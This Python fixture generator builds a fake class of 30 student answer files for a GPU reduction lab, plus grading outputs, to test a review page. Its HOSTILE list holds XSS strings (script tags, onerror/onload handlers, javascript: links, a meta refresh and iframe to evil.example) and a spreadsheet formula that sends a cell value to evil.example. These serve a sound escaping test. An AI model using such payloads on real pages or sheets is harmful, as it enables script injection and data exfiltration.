# SPDX-License-Identifier: MIT
"""A class of 30 for the answers review (grading/review.py): the written answers of lab 06-reduction
as students hand them in, and the graded folder a `grade --submissions` run writes for them (each
submission's summary.json, report.md and results.json through grading/outputs.py, then the run's
submissions.tsv and gradebook.csv through grading/collect.py), without building or running anything.

The answers are made up, deterministic (one seed) and varied the way a class's are: good ones with
the student's own figures, the key's common wrong answers in a student's words, a prediction without
the measurement, empty fields, a file not handed in, a question answered twice, and text that attacks
the page (script, event handlers, a closing </script>, the page's own markers, a spreadsheet formula).

  python3 -m grading.tests.review_fixtures OUT      OUT/subs/<id>/labs/06-reduction/answers.md and OUT/graded/
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

from coursemodel import answers_template, submission_ids
from coursemodel.sheets import sheet_steps

from grading import answers as written_answers
from grading import collect, outputs
from grading.config import Config
from grading.course import Course
from grading.grade import SubmissionGrade
from grading.scoring import GRADED, LabGrade, StepGrade

LAB = "06-reduction"
SEED = 20261207
NAMES = ("aiko-tanaka", "amara-okafor", "ben-schulz", "camille-roux", "chen-wei", "dario-conti", "elif-yilmaz",
         "fatima-haddad", "gabriel-silva", "hana-novak", "ivan-petrov", "jana-dvorak", "kofi-mensah", "lea-martin",
         "lucas-moreau", "maya-cohen", "mehmet-kaya", "nadia-rahman", "oskar-lind", "priya-nair", "quentin-blanc",
         "rosa-garcia", "sami-virtanen", "tomas-horvat", "uma-iyer", "viktor-sokolov", "wen-li", "ximena-lopez",
         "yusuf-ali", "zoe-fischer")
GPUS = ("H100 80GB HBM3", "H100 PCIe", "H200", "H100 SXM")

# Per core question of 06-reduction: answers a student writes, good and wrong in the key's common
# ways (solutions/06-reduction/ANSWERS.md), as (prediction, measurement). {r} and the like are the
# student's own figures, drawn near the key's H100 ones.
GOOD = {
    "1.1": [
        ("Step 1 at 256 threads: for s = 1, 2, 4, 8, 16 all 8 warps still issue the level (16, 8, 4, 2, 1 useful "
         "lanes each), for s = 32, 64, 128 only 4, 2, 1 warps. That is 47 warp-levels. Step 2 packs the working "
         "threads: 4, 2, 1, 1, 1, 1, 1, 1 = 12. So ~4x from the tree alone, but the loads, the barriers of every "
         "level and the block start-ups are the same, so I'd guess 1.5-2x in the table.",
         "vs prev = {r:.2f}x at 256 on our {gpu} ({a} -> {b} GB/s). Well below 4x as predicted: the "
         "__syncthreads() at each level waits for all 8 warps anyway, and step 2 has bank conflicts (section 2)."),
        ("Counting warps, not threads: 8+8+8+8+8+4+2+1 = 47 warp instructions per level-op for step 1, "
         "4+2+1+1+1+1+1+1 = 12 for step 2. Tree alone ~3.9x. Expect much less overall because every thread "
         "still loads and every level has a barrier.",
         "{r:.2f}x at 256 threads ({gpu}). Best columns: {a} vs {b} GB/s. The tree is only part of the time."),
    ],
    "3.2": [
        ("If step 3 were memory bound, step 4 gains nothing (same bytes read). If it is limited by work per "
         "value (instructions, barriers, block start-ups), step 4 halves that and should be close to 2x. Step 3 "
         "is at about a quarter of the roof, so I predict 1.8x.",
         "Got {r256:.2f}x at 256, see 4.1. So it was the per-value work."),
        ("Memory-bound -> ~1.0x, work-bound -> ~2x (half the blocks, first add during the load). I commit to "
         "~1.9x because step 3 is far from the read roof.",
         "{r256:.2f}x, close to the prediction."),
    ],
    "4.1": [
        ("Closest to 2x at small blocks, furthest at 1024 where the tree is deeper.",
         "step4/step3: {r64:.2f} at 64, {r128:.2f} at 128, {r256:.2f} at 256, {r1024:.2f} at 1024 ({gpu}). Closest "
         "at 64/128, furthest at 512/1024 where more tree levels (not halved) are a bigger share. Same bytes, so "
         "step 3 was limited by instructions/barriers/block start-ups per value, not by memory."),
        ("I expect ~2x everywhere but less at 1024.",
         "{r64:.2f}x at 64 down to {r1024:.2f}x at 1024. The deeper tree isn't halved. Step 3 was work-per-value "
         "bound, since the data read is identical."),
    ],
    "5.1": [
        ("racecheck should report hazards in the last warp (lane t reads partial[t+s] while lane t+s writes it), "
         "but the sum will probably still come out right.",
         "racecheck: {n} hazards in sum_last_warp, RAW and WAR between partial[t] and partial[t + s]. All sums "
         "right at every block size on the {gpu}. A right sum is no proof: since Volta lanes have their own "
         "program counters, nothing orders one lane's read against another's write. With __syncwarp() back: "
         "0 hazards."),
        ("Hazards reported, sum still right on this GPU.",
         "{n} errors from racecheck (read-after-write, write-after-read, shared memory), sums correct. It works by "
         "luck of how the warp is scheduled, another compiler could break it. After putting the calls back: clean."),
    ],
    "7.2": [
        ("The tree now runs once per block after a long loop, so the block size should hardly matter. At 64 "
         "threads step 6 was limited by how many small blocks an SM can hold, so I predict ~2.5x there.",
         "Step 7: {a7} to {b7} GB/s across the columns (about 1%), step 6: 837 to 2255. At 64: {x:.2f}x ({gpu})."),
        ("Columns should be within a few %, and a big gain at 64 threads (~3x).",
         "Spread {spread:.1f}% for step 7 vs 2.7x for step 6. At 64 threads {x:.2f}x over step 6."),
    ],
    "8.1": [
        ("Step 7: 2048 threads x 4 B = 8 KiB/SM; step 8: four int4 issued before use = 64 B/thread, 128 KiB/SM. "
         "Step 7 should be latency bound, step 8 bandwidth bound.",
         "Step 7: 132 x 8 KiB = 1.08 MB at {a7} GB/s -> {l7:.2f} us, about a loaded DRAM access: latency bound. "
         "Step 8: 17.3 MB at {b8} GB/s -> {l8:.1f} us, far more than needed: at the roof, bandwidth bound."),
        ("Little's law with the resident threads: step 8 has 16x the bytes in flight of step 7.",
         "step 7 implies ~{l7:.2f} us (consistent with a few hundred ns of DRAM latency -> latency bound); "
         "step 8 implies {l8:.1f} us, way more than the latency, so it is limited by bandwidth."),
    ],
}
WRONG = {
    "1.1": [
        ("Half the threads are idle at each level in step 1, so step 2 should be 2x faster.",
         "Got {r:.2f}x. Roughly 2x, the rest is noise."),
        ("A warp with 1 working lane only takes 1/32 of the time, so divergence barely matters: ~1.1x.",
         "measured {r:.2f}x, not sure why it is that much."),
    ],
    "3.2": [
        ("2x, because step 4 reads twice as fast (two loads per thread).", "{r256:.2f}x, as expected."),
        ("No gain: the tree is the same in both steps.",
         "It was {r256:.2f}x faster?? I guess the compiler did something."),
    ],
    "4.1": [
        ("It will be faster because the loads are coalesced now.", "{r256:.2f}x at 256, so yes, coalescing."),
        ("Step 4 reads half the data so exactly 2x.", "about {r256:.2f}x everywhere."),
    ],
    "5.1": [
        ("Nothing, warps run in lockstep.",
         "racecheck printed some warnings but the sum is right, so the code is correct and the warnings are false "
         "positives."),
        ("It will break.", "The sum was right. I would add volatile to be safe, that fixes races."),
    ],
    "7.2": [
        ("1024 threads should now be the best since the tree is done only once.", "{b7} GB/s at 1024, best."),
        ("No gain at 64 threads, it's the same kernel.", "{x:.2f}x at 64. Surprising."),
    ],
    "8.1": [
        ("Step 8 has one int4 (16 B) per thread in flight, 32 KiB per SM.",
         "32 KiB x 132 / {b8} GB/s = 1.4 us, so both are latency bound."),
        ("Using the 3.35 TB/s of the datasheet for both.", "Both latencies are similar, so both are memory bound."),
    ],
}
VAGUE = [("It should be faster.", "It was faster."), ("Not sure, maybe 2x.", ""), ("see code", "see code")]
# Text that attacks the page: run as script, open an element, close the data block, take the page's
# markers, or start a spreadsheet formula.
HOSTILE = [
    ('</td></tr></table><script>window.__pwned = "script"</script>', '<img src=x onerror="window.__pwned=\'img\'">'),
    ("\"><svg/onload=window.__pwned='svg'>", "</script><script>window.__pwned='data'</script>"),
    ("@@BODY@@ @@DATA@@ @@SCRIPT_HASH@@ <!-- ", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("[click](javascript:window.__pwned='link') <a href=\"javascript:window.__pwned='a'\">proof</a>",
     "<style>body{display:none}</style><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">"),
    ("<iframe src=\"http://evil.example/\"></iframe>\u202eevil\u202c " + "x" * 600, "<textarea>"),
]


def figures(rng: random.Random) -> dict:
    """A student's own figures near the key's H100 ones (a few per cent apart)."""
    jitter = lambda value: value * rng.uniform(0.95, 1.05)  # noqa: E731
    a7, b7 = round(jitter(2262)), round(jitter(2284))
    b8 = round(jitter(3108))
    return {"r": jitter(1.59), "a": round(jitter(480)), "b": round(jitter(721)), "gpu": rng.choice(GPUS),
            "r64": jitter(2.01), "r128": jitter(1.98), "r256": jitter(1.87), "r1024": jitter(1.86),
            "n": rng.choice((96, 128, 192, 256, 384, 512)), "a7": min(a7, b7), "b7": max(a7, b7),
            "x": jitter(2.70), "spread": abs(b7 - a7) / min(a7, b7) * 100, "b8": b8,
            "l7": 1.08e6 / (a7 * 1e9) * 1e6, "l8": 17.3e6 / (b8 * 1e9) * 1e6}


# What each kind of student writes, drawn per question: (kind, weight).
PROFILES = {
    "strong": (("good", 8), ("wrong", 1), ("partial", 1)),
    "average": (("good", 4), ("wrong", 3), ("partial", 2), ("empty", 1)),
    "weak": (("good", 1), ("wrong", 4), ("vague", 3), ("empty", 2)),
    "hostile": (("good", 1), ("wrong", 1)),  # and every text of HOSTILE, one per question
}


def profile_of(index: int) -> str:
    """12 strong, 11 average, 5 weak, 2 hostile; one of the average hands in nothing, one answers a question twice."""
    return "hostile" if index in (7, 21) else "weak" if index % 6 == 5 else "strong" if index % 2 == 0 else "average"


def answer(kind: str, label: str, rng: random.Random, numbers: dict) -> tuple[str, str]:
    if kind == "empty":
        return "", ""
    if kind == "vague":
        return rng.choice(VAGUE)
    bank = GOOD if kind in ("good", "partial") else WRONG
    prediction, measured = rng.choice(bank.get(label) or VAGUE)
    prediction, measured = prediction.format(**numbers), measured.format(**numbers)
    return (prediction, "") if kind == "partial" else (prediction, measured)


def answers_file(course_root: Path, lab: str, index: int, seed: int = SEED) -> str | None:
    """The answers.md of the class's student `index` (None: the student handed none in)."""
    if index == 13:
        return None
    template = (Path(course_root) / "labs" / lab / "answers.md").read_text(encoding="utf-8")
    rng = random.Random(f"{seed}:{index}")
    numbers = figures(rng)
    weights = PROFILES[profile_of(index)]
    filled = {}
    for number, entry in enumerate(answers_template.parse(template)):
        kind = rng.choices([k for k, _ in weights], [w for _, w in weights])[0]
        if profile_of(index) == "hostile" and number < len(HOSTILE):
            filled[entry["label"]] = HOSTILE[number]
        else:
            filled[entry["label"]] = answer(kind, entry["label"], rng, numbers)
    lines, label = [], None
    for line in template.splitlines():
        heading = line.startswith("## Question ") and line.split()[2]
        if heading:
            label = heading
        if label and line.startswith(answers_template.PREDICTION) and filled[label][0]:
            line = f"{answers_template.PREDICTION} {filled[label][0]}"
        elif label and line.startswith(answers_template.MEASURED) and filled[label][1]:
            line = f"{answers_template.MEASURED} {filled[label][1]}"
        elif line.startswith("Hours on this lab"):
            line += f" {rng.choice((6, 7.5, 8, 9, 10, 12, 14))}"
        lines.append(line)
    text = "\n".join(lines) + "\n"
    if index == 3:  # a question answered a second time, further down
        first = next(iter(filled))
        text += (f"\n## Question {first}\n\n{answers_template.PREDICTION} (second try) I recounted: 47 and 12.\n\n"
                 f"{answers_template.MEASURED} same as above.\n")
    return text


def make_class(course_root: Path, out: Path, lab: str = LAB, count: int = 30, seed: int = SEED) -> tuple[Path, Path]:
    """OUT/subs/<id>/labs/<lab>/answers.md and OUT/graded/ (what `grade --submissions subs/ --out
    graded/` writes, for these answers; the code's points drawn, nothing built). Returns both folders."""
    course = Course(Path(course_root))
    meta = next(lab_ for lab_ in course.labs() if lab_.name == lab)
    config = Config.load(course.root / "grading" / "grading.json")
    sheet = written_answers.core_questions(course.root, lab)
    subs, graded = Path(out) / "subs", Path(out) / "graded"
    graded.mkdir(parents=True, exist_ok=True)
    for index in range(count):
        folder = subs / NAMES[index % len(NAMES)] / "labs" / lab
        folder.mkdir(parents=True, exist_ok=True)
        text = answers_file(course.root, lab, index, seed)
        if text is not None:
            (folder / meta.answers_file).write_text(text, encoding="utf-8")
    listed = submission_ids.of_folder(subs, collect.RUN_OUTPUTS)
    collect.write_manifest(graded / collect.MANIFEST, listed)
    steps = sheet_steps(course.root, lab)
    for item in listed:
        rng = random.Random(f"{seed}:{item.id}:code")
        path = f"labs/{lab}/{meta.answers_file}"
        try:
            data = (Path(item.path) / path).read_bytes()
            written = written_answers.read(path, data, len(data), sheet)
        except FileNotFoundError:
            written = written_answers.missing(path, sheet)
        lab_grade = LabGrade(lab, meta.title, GRADED, seed=rng.randrange(1 << 31), device="NVIDIA H100 80GB HBM3",
                             seconds=rng.uniform(40, 90), answers=written)
        for step_id, name in steps:
            rule = config.step_rule(lab, step_id)
            step = StepGrade(step_id, name, rule.correctness_points, rule.performance_points,
                             correctness_status="passed", correctness_points=rule.correctness_points)
            step.performance_points = round(rule.performance_points * rng.choice((1.0, 1.0, 0.75, 0.5, 0.0)), 2)
            lab_grade.steps.append(step)
        grade = SubmissionGrade(item.id, str(item.path), labs=[lab_grade], sandbox="fixture (nothing run)",
                                seconds=lab_grade.seconds)
        outputs.write_all(grade, graded / item.id, config)
    collect.collect(graded, listed, graded, manifest=graded / collect.MANIFEST)
    return subs, graded


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[-1].strip(), file=sys.stderr)
        return 2
    subs, graded = make_class(Path(__file__).resolve().parents[2], Path(argv[0]))
    print(f"wrote {subs} and {graded}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
